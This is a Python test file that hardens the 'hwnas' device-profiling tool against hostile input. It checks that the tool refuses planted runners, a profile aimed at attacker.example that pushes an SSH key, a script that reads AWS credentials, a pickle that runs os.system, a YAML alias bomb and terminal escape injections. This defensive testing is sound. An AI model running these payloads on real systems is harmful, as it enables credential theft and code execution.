"""Hostile input and careless use: each test reproduces an attack or a fault against the real component.

Real: the local transport (subprocesses, ``sh``), OpenSSH's sshd in a network namespace (``sshd_server``,
the device behind it is this machine), real files, pickles, LUTs, Rich and the ``hwnas`` CLI. Nothing here
is mocked. The table of hostile inputs grows with each case; no error needs a traceback to explain itself.
"""

from __future__ import annotations

import io
import json
import logging
import os
import pickle
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import netns as ns_helpers
import pytest
from rich.console import Console

from hwnas.agents import transport as transport_mod
from hwnas.agents.bench_binary import BinaryRunner, elf_machine
from hwnas.agents.device import RUNNER_PATH, Device
from hwnas.agents.errors import DeviceError, OutputTooLarge, ProfileError, WorkdirRefused
from hwnas.agents.lock import DeviceLock, LockOwner, boot_id, machine_id
from hwnas.agents.profiles import load_profile, parse_profile
from hwnas.agents.transport import LocalTransport
from hwnas.profiler.errors import LUTError
from hwnas.profiler.lut import LUT, default_metadata, entry_row
from hwnas.supernet.data import load_dataset
from hwnas.supernet.errors import DatasetError

PYTHON = sys.executable
REPO = Path(__file__).resolve().parents[1]


def hwnas(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None,
          timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PYTHON, "-m", "hwnas", *args], capture_output=True, text=True, cwd=cwd, env=env,
                          timeout=timeout)


def alive(pid: int) -> bool:
    """A process that runs (a zombie waiting to be reaped counts as gone)."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


def wait_gone(pid: int, seconds: float = 10.0) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not alive(pid):
            return True
        time.sleep(0.05)
    return False


# ---------------------------------------------------------------------------------------------------------
# 1. nothing executed on a device that hwnas did not verify


def test_workdir_is_private_and_refused_when_a_symlink_or_someone_elses(tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    t = LocalTransport(device="board", workdir="~/.cache/hwnas")  # the default: the device user's home
    assert t.workdir == str(tmp_path / "home" / ".cache" / "hwnas")
    assert os.stat(t.workdir).st_mode & 0o777 == 0o700
    loose = tmp_path / "loose"
    loose.mkdir(mode=0o777)
    os.chmod(loose, 0o777)
    assert LocalTransport(device="board", workdir=str(loose)).workdir == str(loose)
    assert os.stat(loose).st_mode & 0o777 == 0o700  # our own folder: made private
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    os.chown(foreign, 65534, 65534)  # another user's (nobody's)
    cases = [(tmp_path / "link", "is a symbolic link"), (foreign, "belongs to another user")]
    for path, why in cases:
        with pytest.raises(WorkdirRefused, match=why) as info:
            _ = LocalTransport(device="board", workdir=str(path)).workdir
        assert info.value.exit_code == 2 and "\n" not in str(info.value)


@pytest.mark.netns
def test_a_planted_same_size_runner_is_replaced_not_run_over_ssh(sshd_server: ns_helpers.SSHServer,
                                                                  tmp_path: Path) -> None:
    """Another user of a shared board plants a file of the runner's size under the runner's name: the next
    measurement must checksum it, send the real runner again and never run the planted one."""
    marker = tmp_path / "PLANTED-RUNNER-RAN"
    workdir = f"/tmp/hwnas-hardening-{uuid.uuid4().hex[:8]}"
    size = RUNNER_PATH.stat().st_size
    payload = f"import pathlib; pathlib.Path({str(marker)!r}).write_text('ran')\n".encode()
    planted = payload + b"#" * (size - len(payload) - 1) + b"\n"
    assert len(planted) == size
    code = textwrap.dedent(f"""
        import json, sys
        from pathlib import Path
        from hwnas.agents.device import Device
        from hwnas.agents.errors import DeviceError
        from hwnas.agents.profiles import parse_profile
        from hwnas.agents.ssh import SSHTransport
        settings = json.loads(sys.argv[1])
        profile = parse_profile({{"name": "board", "transport": {{"ssh": {{"host": "127.0.0.1"}}}},
                                 "python": {PYTHON!r}, "workdir": {workdir!r}}}, source="test")
        t = SSHTransport(device="board", workdir={workdir!r}, **settings)
        dev = Device(profile, transport=t)
        runner = dev.runner_remote_path()
        Path(runner).parent.mkdir(parents=True, exist_ok=True)
        Path(runner).write_bytes(bytes.fromhex({planted.hex()!r}))
        try:
            dev.measure([], timeout=60)
        except DeviceError:
            pass  # the real runner may refuse an empty job: what matters is which file ran
        print(json.dumps({{"runner": runner}}))
    """)
    try:
        run = ns_helpers.ns_python(sshd_server.ns, code, args=[json.dumps(sshd_server.settings())], timeout=120)
        runner = Path(run.json()["runner"])
        assert not marker.exists(), "the planted runner was executed"
        assert runner.read_bytes() == RUNNER_PATH.read_bytes()
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


# ---------------------------------------------------------------------------------------------------------
# 2. a profile from someone else's repository cannot exfiltrate files


def _elf_header(machine: int) -> bytes:
    """The first 64 bytes of a 64-bit little-endian ELF executable for ``machine`` (e.g. 183: AArch64)."""
    head = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + (2).to_bytes(2, "little") + machine.to_bytes(2, "little")
    return head + bytes(64 - len(head))


@pytest.mark.parametrize(
    ("content", "match"),
    [
        (b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n", "is not an ELF executable"),
        (b"#!/bin/sh\ncat ~/.aws/credentials\n", "is not an ELF executable"),
        (_elf_header(183 if os.uname().machine != "aarch64" else 62), "is built for"),
    ],
    ids=["ssh-key", "script", "other-abi"],
)
def test_push_sends_only_an_elf_program_of_the_devices_abi(tmp_path: Path, content: bytes, match: str) -> None:
    local = tmp_path / "id_ed25519"
    local.write_bytes(content)
    work = tmp_path / "remote"
    target = work / "bin" / "benchmark_model"
    profile = parse_profile(
        {"name": "phone", "transport": {"ssh": {"host": "127.0.0.1"}}, "runtime": "tflite-benchmark",
         "benchmark_binary": str(target), "push_benchmark_binary": str(local), "workdir": str(work)},
        source="test",
    )
    dev = Device(profile, transport=LocalTransport(device="phone", workdir=str(work)))
    with pytest.raises(ProfileError, match=match) as info:
        BinaryRunner(dev, runtime="tflite-benchmark").remote_binary()
    assert info.value.exit_code == 2 and "push_benchmark_binary" in str(info.value)
    assert not target.exists()


def test_benchmark_binary_is_a_device_path_and_this_machines_elf_is_recognised() -> None:
    with pytest.raises(ProfileError, match="ON THE DEVICE"):
        parse_profile({"name": "p", "runtime": "tflite-benchmark", "benchmark_binary": "~/.ssh/id_ed25519"},
                      source="evil.yaml")
    assert elf_machine(Path(os.path.realpath(PYTHON))) is not None


def test_a_risky_profile_from_the_current_folder_warns_once_naming_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "device_profiles").mkdir()
    evil = tmp_path / "device_profiles" / "evil.yaml"
    evil.write_text(
        "name: evil\ntransport:\n  ssh: {host: attacker.example, trust_on_first_use: true}\n"
        "runtime: tflite-benchmark\nbenchmark_binary: /tmp/bm\npush_benchmark_binary: ~/.ssh/id_ed25519\n"
    )
    monkeypatch.chdir(tmp_path)
    with caplog.at_level(logging.WARNING, logger="hwnas.agents.profiles"):
        load_profile("evil")
        load_profile("evil")
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 2, warnings  # once per setting, not per load
    assert all(str(evil) in w or "evil.yaml" in w for w in warnings)
    assert any("trust_on_first_use" in w for w in warnings) and any("outside" in w for w in warnings)


# ---------------------------------------------------------------------------------------------------------
# 3. Ctrl-C (or any exception) while a command works stops it on the device


class _CtrlC:
    """Deliver a real SIGINT to this process after ``seconds`` (Python raises KeyboardInterrupt in the main thread)."""

    def __init__(self, seconds: float) -> None:
        self.seconds = seconds

    def __enter__(self) -> None:
        self.old = signal.signal(signal.SIGINT, signal.default_int_handler)
        signal.setitimer(signal.ITIMER_REAL, self.seconds)
        self.old_alarm = signal.signal(signal.SIGALRM, lambda *_: os.kill(os.getpid(), signal.SIGINT))

    def __exit__(self, *exc: object) -> None:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, self.old_alarm)
        signal.signal(signal.SIGINT, self.old)


def test_ctrl_c_kills_a_local_command_and_its_group(tmp_path: Path) -> None:
    t = LocalTransport(device="here", workdir=str(tmp_path / "w"))
    pids: list[int] = []
    with _CtrlC(1.0), pytest.raises(KeyboardInterrupt):
        t.run(["sh", "-c", "sleep 300 & echo $!; echo $$; wait"], description="a long job", timeout=120,
              on_line=lambda line: pids.append(int(line)))
    assert len(pids) == 2
    for pid in pids:  # the command and its child in the same group
        assert wait_gone(pid), f"pid {pid} outlived the interrupt"


@pytest.mark.netns
def test_ctrl_c_kills_the_command_on_an_ssh_device(sshd_server: ns_helpers.SSHServer) -> None:
    code = textwrap.dedent("""
        import json, os, signal, sys
        from hwnas.agents.ssh import SSHTransport
        t = SSHTransport(device="board", workdir="/tmp", **json.loads(sys.argv[1]))
        pids = []
        signal.signal(signal.SIGALRM, lambda *_: os.kill(os.getpid(), signal.SIGINT))
        signal.setitimer(signal.ITIMER_REAL, 2.0)
        out = {}
        try:
            t.run(["sh", "-c", "echo $$; exec sleep 300"], description="a long job", timeout=120,
                  on_line=lambda line: pids.append(int(line)))
        except KeyboardInterrupt:
            out["interrupted"] = True
        out["pids"] = pids
        print(json.dumps(out))
    """)
    run = ns_helpers.ns_python(sshd_server.ns, code, args=[json.dumps(sshd_server.settings())], timeout=60)
    res = run.json()
    assert res.get("interrupted") and len(res["pids"]) == 1, run.stderr[-2000:]
    assert wait_gone(res["pids"][0]), "the command outlived Ctrl-C on the device"


@pytest.mark.netns
def test_ctrl_c_kills_the_command_on_an_adb_device(adbd_server: ns_helpers.ADBServer, tmp_path: Path) -> None:
    code = textwrap.dedent("""
        import json, os, signal, sys
        from hwnas.agents.adb import ADBTransport
        t = ADBTransport(device="phone", workdir="/tmp", **json.loads(sys.argv[1]))
        pids = []
        signal.signal(signal.SIGALRM, lambda *_: os.kill(os.getpid(), signal.SIGINT))
        signal.setitimer(signal.ITIMER_REAL, 2.0)
        out = {}
        try:
            t.run(["sh", "-c", "echo $$; exec sleep 300"], description="a long job", timeout=120,
                  on_line=lambda line: pids.append(int(line)))
        except KeyboardInterrupt:
            out["interrupted"] = True
        out["pids"] = pids
        print(json.dumps(out))
    """)
    run = ns_helpers.ns_python(adbd_server.ns, code, args=[json.dumps(adbd_server.settings())], timeout=60,
                               env={"XDG_CONFIG_HOME": str(tmp_path / "config")})
    res = run.json()
    assert res.get("interrupted") and len(res["pids"]) == 1, run.stderr[-2000:]
    assert wait_gone(res["pids"][0]), "the command outlived Ctrl-C on the device"


def _plant_lock(lock_dir: Path, owner: LockOwner, runner_pid: int | None = None) -> None:
    lock_dir.mkdir(parents=True)
    (lock_dir / "owner").write_text(owner.to_line() + "\n")
    if runner_pid is not None:
        (lock_dir / "runner.pid").write_text(f"{runner_pid}\n")


def test_the_lock_is_not_released_while_its_runner_still_runs(tmp_path: Path) -> None:
    t = LocalTransport(device="here", workdir=str(tmp_path / "w"))
    lock = DeviceLock(t).acquire()
    runner = subprocess.Popen(["sh", "-c", "sleep 300; exit 0"])
    try:
        (Path(lock.path) / "runner.pid").write_text(f"{runner.pid}\n")  # as the runner's wrapper records it
        lock.release()
        assert runner.wait(timeout=10) is not None, "release left the runner running"
        assert not Path(lock.path).exists()
    finally:
        if runner.poll() is None:
            runner.kill()
            runner.wait()


def test_lock_staleness_is_judged_by_machine_and_boot_id_too(tmp_path: Path) -> None:
    t = LocalTransport(device="here", workdir=str(tmp_path / "w"))
    lock_dir = Path(t.workdir) / "hwnas.lock"
    dead = subprocess.Popen(["true"])
    dead.wait()
    # same host name, another machine (a clone or a container): its PID says nothing about that process
    _plant_lock(lock_dir, LockOwner(host=socket.gethostname(), pid=dead.pid, started="2024-01-01T00:00:00+00:00",
                                    run_id="twin", machine_id="0" * 32, boot_id=boot_id()))
    with pytest.raises(DeviceError, match="another profiling run holds the device"):
        DeviceLock(t).acquire()
    shutil.rmtree(lock_dir)
    # this machine before a reboot: a PID that runs now (ours) is not that process
    _plant_lock(lock_dir, LockOwner(host=socket.gethostname(), pid=os.getpid(), started="2024-01-01T00:00:00+00:00",
                                    run_id="before-reboot", machine_id=machine_id(), boot_id="f" * 32))
    DeviceLock(t).acquire().release()
    assert LockOwner.from_line('{"host": "h", "pid": 1, "started": "s", "run_id": "r"}') is not None  # old locks


# ---------------------------------------------------------------------------------------------------------
# 5. every wait is bounded


@pytest.mark.netns
def test_ssh_input_to_a_device_that_stops_reading_is_bounded(sshd_server: ns_helpers.SSHServer) -> None:
    """The command never reads its stdin: the SSH window fills and the device takes no byte more, with the link
    up. Sending must give up after keepalive_s * keepalive_count seconds, naming what it waited for."""
    code = textwrap.dedent("""
        import json, sys, time
        from hwnas.agents.ssh import SSHTransport
        from hwnas.agents.errors import DeviceTimeout
        t = SSHTransport(device="board", workdir="/tmp", **json.loads(sys.argv[1]))
        start = time.monotonic()
        out = {}
        try:
            t.run(["sleep", "40"], description="unpack 3 files", timeout=120, stdin=b"x" * (24 << 20))
            out["returned"] = True
        except DeviceTimeout as exc:
            out["error"] = str(exc)
        out["seconds"] = time.monotonic() - start
        print(json.dumps(out))
    """)
    settings = sshd_server.settings(keepalive_s=1, keepalive_count=3)
    run = ns_helpers.ns_python(sshd_server.ns, code, args=[json.dumps(settings)], timeout=90)
    res = run.json()
    assert "error" in res, res
    assert "sending its input stalled" in res["error"] and "unpack 3 files" in res["error"]
    assert res["seconds"] < 20


def test_local_readers_held_open_by_a_background_child_do_not_hang(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport_mod, "READER_JOIN_S", 1.0)
    t = LocalTransport(device="here", workdir=str(tmp_path / "w"))
    start = time.monotonic()
    res = t.run(["sh", "-c", "sleep 300 & echo $!"], description="start a daemon", timeout=120)
    assert time.monotonic() - start < 30
    assert wait_gone(int(res.stdout.split()[0]))


def test_local_output_is_capped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport_mod, "MAX_OUTPUT_BYTES", 1 << 20)
    t = LocalTransport(device="here", workdir=str(tmp_path / "w"))
    start = time.monotonic()
    with pytest.raises(OutputTooLarge, match="printed more than 1 MiB"):
        t.run(["yes", "flood"], description="a chatty tool", timeout=60)
    assert time.monotonic() - start < 30


# ---------------------------------------------------------------------------------------------------------
# 6. files hwnas reads cannot hurt it


def _small_lut(tmp_path: Path, **device: str) -> Path:
    meta = default_metadata(space="compact", resolutions=[32])
    meta["device"] = {"model": "board", **device}
    import pandas as pd

    rows = pd.DataFrame([entry_row("k1", 32, runs=3, stats={"median_ms": 1.5, "mean_ms": 1.5}, op="conv")])
    path = tmp_path / "lut.csv"
    LUT(metadata=meta, rows=rows).save(path)
    return path


def test_yaml_aliases_in_lut_metadata_are_refused(tmp_path: Path) -> None:
    path = _small_lut(tmp_path)
    bomb = ["# a: &a [x, x, x, x, x, x, x, x, x]"]
    bomb += [f"# {chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
    lines = path.read_text().splitlines()
    path.write_text("\n".join(lines[:1] + bomb + lines[1:]) + "\n")
    with pytest.raises(LUTError, match="aliases"):
        LUT.load(path)
    res = hwnas("lut", "show", str(path), "--json")
    assert res.returncode == 2 and res.stdout == "" and len(res.stderr.splitlines()) == 1, res.stderr[-500:]
    assert "aliases" in res.stderr


@pytest.mark.parametrize("model", ["Pixel\n...\nrows: none", "x\n...", "  ...", "a\n---\nb", "a\x1b[31m\u2028..."],
                         ids=["dots-line", "dots-end", "indented-dots", "dashes", "controls"])
def test_a_device_string_cannot_end_the_metadata_block(tmp_path: Path, model: str) -> None:
    path = _small_lut(tmp_path, soc=model)
    lut = LUT.load(path)
    assert lut.metadata["device"]["soc"] == model and len(lut) == 1


def test_cifar_loader_refuses_a_pickle_that_runs_code(tmp_path: Path) -> None:
    marker = tmp_path / "PICKLE-RAN"

    class Evil:
        def __reduce__(self) -> tuple:
            return (os.system, (f"touch {marker}",))

    folder = tmp_path / "cifar-10-batches-py"
    folder.mkdir()
    for name in [f"data_batch_{i}" for i in range(1, 6)] + ["test_batch"]:
        (folder / name).write_bytes(pickle.dumps({b"data": Evil(), b"labels": [0]}))
    with pytest.raises(DatasetError, match="posix.system|os.system"):
        load_dataset(f"cifar10:{tmp_path}", resolution=32, split="train")
    assert not marker.exists()


def test_torch_is_bounded_below_where_weights_only_is_safe() -> None:
    text = (REPO / "pyproject.toml").read_text()
    assert '"torch>=2.6' in text


# ---------------------------------------------------------------------------------------------------------
# 7. what a device says cannot drive the terminal

HOSTILE = ["[/bold]", "[link=http://x]y[/link]", "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "a\rb", "\u202egnp.exe", "\x9b31m"]


def test_probe_output_escapes_markup_and_strips_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    from hwnas.cli.devices import _show_devices, _show_probe

    result = {
        "device": "[/bold]", "address": "\x1b[31mroot@h:22", "model": HOSTILE[0], "manufacturer": HOSTILE[2],
        "soc": HOSTILE[3], "abi": HOSTILE[5], "os": HOSTILE[4], "cores": 4, "core_types": HOSTILE[:2],
        "clusters": [{"cpus": [0, 1], "max_mhz": 1800.0, "governors": ["[/red]", "\x1b[5m"], "mask": "3"}],
        "temperatures_c": {"[/i]\x07": 40.0}, "runtimes": {"onnxruntime": {"version": "[bold]1.0\x1b[0m",
                                                                           "module": "[/]"}},
        "battery": {"level": 5, "scale": 100, "status": "[/b]\x1b[8m", "temperature_c": 30},
        "throttled": {"raw": "0x0", "flags": ["[/x]"]}, "power_mode": {"name": "\x1b]2;t\x07", "mode_id": 0},
        "missing": ["[/missing]\x1b[1A"],
    }
    _show_probe(result)
    _show_devices({"devices": [{"name": "n", "transport": "ssh", "address": "[/bold]\x1b[2K", "reachable": False,
                                "error": "n: [/oops] \x1b]0;x\x07", "profile": "n"}],
                   "adb_server": {"running": True, "address": "[/a]\x1b[3m"}})
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\u202e" not in out
    assert "[/bold]" in out and "[/red]" in out and "[/oops]" in out


def test_lut_show_prints_device_strings_from_a_lut_as_text(tmp_path: Path) -> None:
    path = _small_lut(tmp_path, soc="[/bold]\x1b]0;owned\x07\x1b[2J")
    res = hwnas("lut", "show", str(path))
    assert res.returncode == 0, res.stderr[-800:]
    assert "[/bold]" in res.stdout and "\x1b" not in res.stdout and "\x07" not in res.stdout


def test_errors_and_log_lines_reach_stderr_without_control_characters() -> None:
    from hwnas.cli._app import _one_line, _PlainFormatter, shown

    exc = DeviceError("the runner failed", device="board", output="\x1b]0;owned\x07boom\x1b[2J")
    assert "\x1b" not in _one_line(exc) and "boom" in _one_line(exc)
    record = logging.LogRecord("x", logging.WARNING, __file__, 1, "printed %s", ("\x1b[31mred\x07",), None)
    assert _PlainFormatter("%(message)s").format(record) == "printed [31mred"
    buf = io.StringIO()
    Console(file=buf).print(f"[bold]{shown('[/bold]')}[/bold]")  # raises MarkupError unless escaped
    assert buf.getvalue() == "[/bold]\n"


# ---------------------------------------------------------------------------------------------------------
# 8. small ones


@pytest.mark.parametrize("name", ["board\n", "board\r", "../etc", "a/b", "-rf", ""], ids=repr)
def test_profile_names_match_whole(name: str) -> None:
    with pytest.raises(ProfileError, match="field 'name'"):
        parse_profile({"name": name}, source="p.yaml")


def test_profile_refuses_an_existing_lut_without_resume_or_force(tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    out.write_text("precious rows\n")
    sidecar = tmp_path / "c.samples.jsonl"
    sidecar.write_text("precious samples\n")
    res = hwnas("profile", "local", "--space", "compact", "--resolutions", "32", "--out", str(out), "--json")
    errors = [line for line in res.stderr.splitlines() if "error" in line.lower() or "Traceback" in line]
    assert res.returncode == 2 and res.stdout == "" and len(errors) == 1, res.stderr[-800:]
    assert "--resume" in res.stderr and "--force" in res.stderr
    assert out.read_text() == "precious rows\n" and sidecar.read_text() == "precious samples\n"
    both = hwnas("profile", "local", "--space", "compact", "--out", str(out), "--resume", "--force")
    assert both.returncode == 2 and out.read_text() == "precious rows\n"


def test_demo_force_removes_only_a_demo_folder(tmp_path: Path) -> None:
    (tmp_path / "thesis.tex").write_text("precious")
    res = hwnas("demo", "--out", str(tmp_path), "--force", "--json")
    assert res.returncode == 2 and len(res.stderr.splitlines()) == 1, res.stderr[-800:]
    assert (tmp_path / "thesis.tex").read_text() == "precious"
